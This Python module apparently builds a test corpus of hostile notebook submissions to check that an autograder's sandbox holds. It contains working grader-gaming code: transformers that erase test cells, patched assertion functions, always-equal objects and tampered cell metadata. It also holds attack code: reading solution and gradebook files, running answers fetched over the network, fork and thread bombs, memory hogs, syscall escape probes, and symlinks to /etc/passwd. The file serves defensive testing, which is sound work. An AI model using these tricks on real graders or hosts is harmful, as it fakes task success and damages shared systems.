"""Hostile submissions, built by code from a released notebook and its source.

:func:`build_corpus` takes the release and the source of one notebook and returns one submission per attack,
plus the honest one. Nothing here knows the notebook's functions: a submission is the release with its solution
cells filled in one of three ways — left as released (*missing*), the source's solution (*honest*), or the
source's solution with every returned number shifted (*wrong*) — and one attack injected.

Each :class:`Submission` says which test cells the attack targets (those must score 0 on the trusted grader);
attacks on availability (family 7) target only the tests that depend on the cell they break, and the other
tests of the same notebook must still get their points.
"""
from __future__ import annotations

import ast
import copy
import textwrap
from dataclasses import dataclass, field

import nbformat

from grader import cells
from grader.sample_class import student_code


@dataclass
class Submission:
    name: str
    family: int
    description: str
    nb: nbformat.NotebookNode
    targets: set[str]                       # test grade ids that must score 0
    independent: set[str] = field(default_factory=set)   # test grade ids that must keep full marks
    dangerous: bool = False                 # needs the resource limits of a sandbox to be safe to run
    files: dict = field(default_factory=dict)   # planted beside the notebook: name -> bytes, or ("symlink", target)


def _solution_ids(nb) -> list[str]:
    return [cells.grade_id(c) for c in nb.cells if cells.is_solution(c) and c.cell_type == "code"]


def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if cells.grade_id(c) == grade_id)


def _defined(source: str) -> set[str]:
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return set()
    return {n.name for n in tree.body if isinstance(n, (ast.FunctionDef, ast.ClassDef))}


def _names(source: str) -> set[str]:
    try:
        return {n.id for n in ast.walk(ast.parse(source)) if isinstance(n, ast.Name)}
    except SyntaxError:
        return set()


def dependent_tests(source_nb, broken_cell: str) -> set[str]:
    """Test cells that use what ``broken_cell`` defines, directly or through another solution's function."""
    broken = _defined(_cell(source_nb, broken_cell).source)
    solutions = {gid: _cell(source_nb, gid).source for gid in _solution_ids(source_nb)}
    changed = True
    while changed:
        changed = False
        for gid, src in solutions.items():
            if gid != broken_cell and _names(src) & broken and not _defined(src) <= broken:
                broken |= _defined(src)
                changed = True
    return {cells.grade_id(c) for c in cells.test_cells(source_nb) if _names(c.source) & broken}


def fill(release_nb, source_nb, how: str) -> nbformat.NotebookNode:
    """The release with every solution cell missing (as released), honest, or wrong."""
    nb = copy.deepcopy(release_nb)
    if how == "missing":
        return nb
    for gid in _solution_ids(nb):
        source = student_code(_cell(source_nb, gid).source)
        if how == "wrong":
            source += "\n" + "".join(f"\n{name} = _shifted({name})" for name in sorted(_defined(source)))
            source = WRONG_HELPER + "\n" + source
        _cell(nb, gid).source = source
    return nb


WRONG_HELPER = textwrap.dedent('''
    def _shifted(fn):
        """A wrong version of fn: every number it returns is off by one."""
        import functools
        import numpy
        def shift(v):
            if isinstance(v, numpy.ndarray) and v.dtype.kind in "fc":
                return v + 1.0
            if isinstance(v, tuple):
                return tuple(shift(x) for x in v[:1]) + v[1:]
            if isinstance(v, (int, float)) and not isinstance(v, bool):
                return v + 1
            return v
        return functools.wraps(fn)(lambda *a, **k: shift(fn(*a, **k)))
''')


def _prepend(nb, grade_id: str, code: str) -> None:
    cell = _cell(nb, grade_id)
    cell.source = textwrap.dedent(code).strip() + "\n\n" + cell.source


def _append(nb, grade_id: str, code: str) -> None:
    cell = _cell(nb, grade_id)
    cell.source = cell.source + "\n\n" + textwrap.dedent(code).strip()


def _first_solution(nb) -> str:
    return _solution_ids(nb)[0]


# -- the attacks ---------------------------------------------------------------------------------------------------
TRANSFORMER = 'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])'

AST_TRANSFORMER = '''
import ast as _ast
class _Erase(_ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [_ast.Pass()]
        return node
get_ipython().ast_transformers.append(_Erase())
'''

MONKEYPATCH = '''
import builtins, numpy, numpy.testing
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_almost_equal = lambda *a, **k: None
import workbook.checks as _wc
for _n in ("check_array", "check_equal", "check_true", "check_raises", "check_gradient", "rel_error"):
    setattr(_wc, _n, lambda *a, **k: None)
    globals()[_n] = lambda *a, **k: None
try:
    import grader.hidden as _gh
    _gh.check_function = lambda *a, **k: None
    _gh.check_array = lambda *a, **k: None
except Exception:
    pass
'''

LIAR = '''
import functools as _ft, numpy as _np
class _LiarArray(_np.ndarray):
    """Equal to everything, close to everything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def astype(self, *a, **k): return self
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [_np.asarray(x) if isinstance(x, _LiarArray) else x for x in inputs]
        kwargs.pop("out", None)
        result = getattr(ufunc, method)(*plain, **kwargs)
        if isinstance(result, _np.ndarray) and result.dtype == bool:
            return _np.ones(result.shape, dtype=bool)
        if isinstance(result, _np.bool_):
            return _np.True_
        return _np.asarray(result).view(_LiarArray) if isinstance(result, _np.ndarray) else result
class _LiarInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
def _lie(v):
    if isinstance(v, _np.ndarray):
        return _np.asarray(v).view(_LiarArray)
    if isinstance(v, tuple):
        return tuple(_lie(x) for x in v)
    if isinstance(v, int) and not isinstance(v, bool):
        return _LiarInt(v)
    return v
def _liar(fn):
    return _ft.wraps(fn)(lambda *a, **k: _lie(fn(*a, **k)))
'''

SNOOP = '''
import glob as _glob, json as _json, os as _os
_root = _os.getcwd()
for _ in range(6):
    if _os.path.isdir(_os.path.join(_root, "solutions")):
        break
    _root = _os.path.dirname(_root)
for _path in _glob.glob(_os.path.join(_root, "solutions", "*", "*.ipynb")):
    for _c in _json.load(open(_path))["cells"]:
        if _c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(_c["source"]), globals())
for _path in _glob.glob(_os.path.join(_root, "submitted", "*", "*", "*.ipynb")):
    _text = open(_path).read()
try:
    open(_os.path.join(_root, "PWNED_BY_SNOOP"), "w").write("x")
    open(_os.path.join(_root, "gradebook.db"), "ab").close()
    open(_os.path.join(_root, "gradebook.db-pwned"), "w").write("x")
    for _path in _glob.glob(_os.path.join(_root, "submitted", "*", "*", "*.ipynb")):
        open(_path + ".pwned", "w").write("x")
except OSError:
    pass
'''

NETWORK = '''
import urllib.request as _url
try:
    exec(_url.urlopen("http://127.0.0.1:{port}/answers", timeout=3).read().decode(), globals())
except Exception:
    pass
'''

GRADING_ENV = '''
import os as _os
if _os.environ.get("NBGRADER_EXECUTION") or "autograded" in _os.getcwd():
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
'''

RESOURCE = {
    "sigint_loop": ("an infinite loop that ignores SIGINT",
                    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
    "os_exit": ("os._exit(0) in a solution cell", "import os\nos._exit(0)"),
    "segfault": ("a segfault via ctypes", "import ctypes\nctypes.string_at(0)"),
    "alloc_50gb": ("allocating 50 GB", "import numpy\n_hog = numpy.ones(50 << 30, dtype=numpy.uint8)"),
    "fork_bomb": ("a fork bomb", textwrap.dedent('''
        import os, time
        for _ in range(100000):
            try:
                _pid = os.fork()
            except OSError:
                break
            if _pid == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.2)
        raise RuntimeError("fork bomb done")''').strip()),
    "print_1gb": ("printing 1 GB", "import sys\nfor _ in range(1024):\n    sys.stdout.write('x' * (1 << 20))"),
}


#: Issue 12's guarantees. An escape through a system call the filter should deny would hand the attack the
#: answers (simulated: if any call succeeds, the honest solutions are defined).
SECCOMP_CALLS = '''
import ctypes as _ct, os as _os
_libc = _ct.CDLL(None, use_errno=True)
_libc.syscall.restype = _ct.c_long
_escaped = []
for _name, _call in {"keyctl": (250, 0, 0), "add_key": (248, 0, 0, 0, 0, 0), "unshare": (272, 0x10000000),
                     "mount": (165, 0, 0, 0, 0, 0), "fsopen": (430, 0, 0), "ptrace": (101, 0, 0, 0, 0),
                     "perf_event_open": (298, 0, 0, -1, -1, 0), "bpf": (321, 0, 0, 0), "userfaultfd": (323, 0),
                     "io_uring_setup": (425, 1, 0), "socket AF_VSOCK": (41, 40, 1, 0),
                     "ioctl TIOCSTI": (16, 0, 0x5412, 0)}.items():
    _ct.set_errno(0)
    _r = _libc.syscall(*[_ct.c_long(a) for a in _call])
    if _r >= 0 or _ct.get_errno() not in (1, 38):     # anything but EPERM/ENOSYS: the call went through
        _escaped.append(_name)
if _escaped:
    exec({answers!r}, globals())
'''

MULTIPROC_MEMORY = '''
import os, time
_kids = []
for _ in range(8):                       # 8 x 512 MiB: each below the per-process limit, 4 GiB together
    _pid = os.fork()
    if _pid == 0:
        _block = bytearray(512 << 20)
        time.sleep(30)
        os._exit(0)
    _kids.append(_pid)
for _pid in _kids:
    os.waitpid(_pid, 0)
'''

THREAD_BOMB = '''
import threading, time
_threads = 0
while True:
    try:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        _threads += 1
    except RuntimeError:
        time.sleep(0.01)
'''

#: Planted at run time in the kernel's working folder: records claiming full marks, symlinks to host files,
#: a large file, and caches.
PLANT_AT_RUN_TIME = '''
import json as _json, os as _os
_record = {"sandbox_mode": "bwrap", "degraded": False, "restarts": 0, "events": [], "findings": [],
           "score": 999, "planted": True}
for _name in ("relu.grading.json", "other.grading.json", "relu.ipynb.grading.json"):
    with open(_name, "w") as _f:
        _json.dump(_record, _f)
for _name, _target in (("host_secret.txt", {secret!r}), ("passwd_link", "/etc/passwd"), ("up", "..")):
    try:
        _os.symlink(_target, _name)
    except OSError:
        pass
try:
    with open("big.bin", "wb") as _f:
        _f.truncate(512 << 20)
except OSError:
    pass
_os.makedirs(".cache/fontconfig", exist_ok=True)
'''

SHM_WRITER = '''
import os as _os
for _dir in ("/dev/shm", "/tmp"):
    try:
        with open(_os.path.join(_dir, {name!r}), "w") as _f:
            _f.write({answers!r})
    except OSError:
        pass
'''

SHM_READER = '''
import os as _os
for _dir in ("/dev/shm", "/tmp"):
    _path = _os.path.join(_dir, {name!r})
    if _os.path.exists(_path):
        exec(open(_path).read(), globals())
        break
'''

SHM_NAME = "workbook-corpus-answers.py"


def _template(code: str, **values) -> str:
    """`code` with each {name!r} replaced by repr(value) (the code itself is full of braces)."""
    for name, value in values.items():
        code = code.replace("{" + name + "!r}", repr(value))
    return code


def honest_answers(source_nb) -> str:
    """Python source defining every solution function (what the network attack's server hands out)."""
    return "\n\n".join(student_code(_cell(source_nb, gid).source) for gid in _solution_ids(source_nb))


def build_corpus(release_nb, source_nb, *, port: int, secret: str | None = None) -> list[Submission]:
    """The honest submission and one submission per attack (families 1 to 8 of issue 3; with `secret`, the path
    of a host file no submission may read, also families 9 to 11 of issue 12)."""
    tests = {cells.grade_id(c) for c in cells.test_cells(source_nb)}
    out: list[Submission] = []

    def add(name, family, description, nb, targets=None, independent=(), dangerous=False, files=None):
        out.append(Submission(name, family, description, nb, set(tests if targets is None else targets),
                              set(independent), dangerous, dict(files or {})))

    add("honest", 0, "the source's own solutions", fill(release_nb, source_nb, "honest"), targets=set())

    nb = fill(release_nb, source_nb, "missing")
    _prepend(nb, _first_solution(nb), TRANSFORMER)
    add("input_transformer", 1, "an input transformer turns every later cell into `pass`", nb)

    nb = fill(release_nb, source_nb, "missing")
    _prepend(nb, _first_solution(nb), AST_TRANSFORMER)
    add("ast_transformer", 1, "an AST transformer erases every later cell", nb)

    nb = fill(release_nb, source_nb, "wrong")
    _prepend(nb, _first_solution(nb), MONKEYPATCH)
    add("monkeypatch", 2, "wrong answers; numpy.allclose, numpy.testing, workbook.checks and grader.hidden "
                          "patched to pass", nb)

    nb = fill(release_nb, source_nb, "wrong")
    for gid in _solution_ids(nb):
        cell = _cell(nb, gid)
        cell.source += "".join(f"\n{name} = _liar({name})" for name in sorted(_defined(cell.source)) if
                               not name.startswith("_"))
    _prepend(nb, _first_solution(nb), LIAR)
    add("liar_objects", 3, "wrong answers returned as an ndarray subclass / int subclass whose __eq__ and "
                           "__array_ufunc__ say 'equal'", nb)

    nb = fill(release_nb, source_nb, "missing")
    test_idx = [i for i, c in enumerate(nb.cells) if cells.is_test(c)]
    first, last = nb.cells[test_idx[0]], nb.cells[test_idx[-1]]
    duplicate = copy.deepcopy(first)
    first.source = "pass"
    first.metadata.nbgrader["points"] = 100
    for i in test_idx[1:-1]:
        nb.cells[i].metadata.nbgrader.update(grade=False, solution=True)
        nb.cells[i].source = "pass"
    duplicate.source = "print('all good')"
    nb.cells.append(duplicate)
    nb.cells.remove(last)
    bonus = nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 50, "grade_id": "bonus_points",
        "schema_version": 3}})
    bonus.pop("id", None)
    nb.cells.append(bonus)
    add("tampered_cells", 4, "test cells replaced by `pass`, points raised, flags changed, one deleted, a grade "
                             "id duplicated, a fake graded cell added", nb)

    nb = fill(release_nb, source_nb, "missing")
    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
    nb.metadata["language_info"] = {"name": "evil"}
    _prepend(nb, _first_solution(nb), TRANSFORMER)
    add("kernelspec", 4, "kernelspec changed to a kernel of the student's choosing (with the input-transformer "
                         "attack)", nb)

    nb = fill(release_nb, source_nb, "missing")
    for gid in _solution_ids(nb):
        _append(nb, gid, SNOOP)
    add("snoop", 5, "reads solutions/ and other submissions, executes the reference, writes to the course "
                    "directory and the gradebook", nb)

    nb = fill(release_nb, source_nb, "missing")
    for gid in _solution_ids(nb):
        _append(nb, gid, NETWORK.format(port=port))
    add("network", 6, f"downloads the answers from a server on 127.0.0.1:{port}", nb)

    first = _first_solution(release_nb)
    broken = dependent_tests(source_nb, first)
    for name, (description, code) in RESOURCE.items():
        nb = fill(release_nb, source_nb, "honest")
        _cell(nb, first).source = code + "\n\n" + _cell(release_nb, first).source
        add(name, 7, description + f" in solution cell `{first}` (the rest honest)", nb, targets=broken,
            independent=tests - broken if name != "fork_bomb" else (),
            dangerous=name in ("alloc_50gb", "fork_bomb", "print_1gb", "sigint_loop"))

    nb = fill(release_nb, source_nb, "missing")
    _prepend(nb, _first_solution(nb), GRADING_ENV)
    add("grading_env", 8, "installs the input transformer only when NBGRADER_EXECUTION is set or it runs "
                          "under autograded/", nb)
    if secret is not None:
        issue12_corpus(release_nb, source_nb, secret=secret, add=add)
    return out


def issue12_corpus(release_nb, source_nb, *, secret: str, add) -> None:
    """One submission per guarantee of issue 12 (seccomp, memory and processes over the whole tree, planted
    files and symlinks, /dev/shm between two kernels), added with `add`."""
    answers = honest_answers(source_nb)
    tests = {cells.grade_id(c) for c in cells.test_cells(source_nb)}
    first = _first_solution(release_nb)
    broken = dependent_tests(source_nb, first)

    nb = fill(release_nb, source_nb, "missing")
    for gid in _solution_ids(nb):           # after each stub, so that an escape would replace it
        _append(nb, gid, _template(SECCOMP_CALLS, answers=answers))
    add("seccomp_calls", 9, "keyctl, add_key, unshare, mount, fsopen, ptrace, perf_event_open, bpf, userfaultfd, "
                            "io_uring, AF_VSOCK, TIOCSTI; any that succeeds hands it the answers", nb)

    for name, code, description in (("multiproc_memory", MULTIPROC_MEMORY, "8 child processes of 512 MiB each"),
                                    ("thread_bomb", THREAD_BOMB, "threads until the process limit, forever")):
        nb = fill(release_nb, source_nb, "honest")
        _cell(nb, first).source = textwrap.dedent(code).strip() + "\n\n" + _cell(release_nb, first).source
        add(name, 9, description + f" in solution cell `{first}` (the rest honest)", nb, targets=broken,
            independent=tests - broken, dangerous=True)

    nb = fill(release_nb, source_nb, "missing")
    _prepend(nb, first, _template(PLANT_AT_RUN_TIME, secret=secret))
    record = b'{"sandbox_mode": "bwrap", "score": 999, "planted": true'      # not even valid JSON
    files = {"relu.grading.json": record, "other.grading.json": record, "host_secret.txt": ("symlink", secret),
             "passwd.txt": ("symlink", "/etc/passwd"), "big.bin": b"\0" * (8 << 20),
             "notes/deep.grading.json": record}
    add("planted_files", 10, "plants grading records, symlinks to a host secret and /etc/passwd, a large file and "
                             "caches, beside the notebook and at run time", nb, files=files)

    nb = fill(release_nb, source_nb, "honest")
    _prepend(nb, first, _template(SHM_WRITER, name=SHM_NAME, answers=answers))
    add("shm_a_writer", 11, "honest, and leaves its answers in /dev/shm and /tmp for the next kernel", nb,
        targets=set())
    nb = fill(release_nb, source_nb, "missing")
    for gid in _solution_ids(nb):
        _append(nb, gid, _template(SHM_READER, name=SHM_NAME))
    add("shm_b_reader", 11, "takes the answers another kernel left in /dev/shm or /tmp", nb)
